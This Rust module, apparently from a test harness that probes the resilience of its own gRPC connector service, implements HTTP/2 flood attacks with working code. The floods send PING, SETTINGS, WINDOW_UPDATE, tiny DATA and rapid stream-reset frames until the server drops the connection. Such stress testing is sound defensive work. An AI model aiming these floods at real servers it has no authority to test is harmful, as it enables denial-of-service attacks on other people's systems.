//! Floods of frames with little or no data.

use tokio::io::AsyncWriteExt;

use crate::hostile::{Attack, HOSTILE_TOKEN, Kind, Target, connect, discard};
use crate::raw::{
    DATA, END_HEADERS, GREETING, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, call_headers, frame,
};

pub(super) const KINDS: [Kind; 6] = [
    Kind { name: "PING frames", callers: 2, attack: |target| flood(target, frame(PING, 0, 0, &[0; 8])) },
    Kind { name: "SETTINGS frames", callers: 2, attack: |target| flood(target, frame(SETTINGS, 0, 0, &[])) },
    Kind {
        name: "WINDOW_UPDATE frames",
        callers: 2,
        attack: |target| flood(target, frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    },
    Kind {
        name: "DATA frames of one byte",
        callers: 2,
        attack: |target| flood(target, frame(DATA, 0, 1, &[7])),
    },
    Kind { name: "empty DATA frames", callers: 2, attack: |target| flood(target, frame(DATA, 0, 1, &[])) },
    Kind { name: "calls that are reset immediately", callers: 2, attack: resets },
];

const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// The start of a message of 1 MiB.
const START: &[u8] = &[0, 0, 15, 255, 255];

/// The headers of a call with a valid token.
fn headers() -> Vec<u8> {
    let authorization = format!("Bearer {HOSTILE_TOKEN}");
    call_headers("/c1.connector.v2.ConnectorService/GetMetadata", &[("authorization", &authorization)])
}

/// Begins a call, and then repeats the frame until the server closes the connection.
fn flood(target: Target, repeated: Vec<u8>) -> Attack {
    let begin = [frame(HEADERS, END_HEADERS, 1, &headers()), frame(DATA, 0, 1, START)].concat();
    write(target, begin, move |_| repeated.repeat(100))
}

fn resets(target: Target) -> Attack {
    let headers = headers();
    let call = move |number: u32| {
        let stream = 2 * number + 1;
        [frame(HEADERS, END_HEADERS, stream, &headers), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    };
    write(target, Vec::new(), move |piece| (0..10).flat_map(|number| call(10 * piece + number)).collect())
}

/// Sends `begin`, and then the bytes of `make` for each number from 0 on until the server closes the
/// connection. Reads the answers.
fn write(target: Target, begin: Vec<u8>, make: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static) -> Attack {
    Box::pin(async move {
        let Some(mut stream) = connect(target.grpc).await else { return };
        let (reading, mut writing) = stream.split();
        let write = async {
            let mut sent = writing.write_all(&[GREETING, &begin].concat()).await;
            for number in 0.. {
                if sent.is_err() {
                    break;
                }
                sent = writing.write_all(&make(number)).await;
            }
        };
        tokio::select! {
            () = write => {}
            () = discard(reading) => {}
        }
    })
}
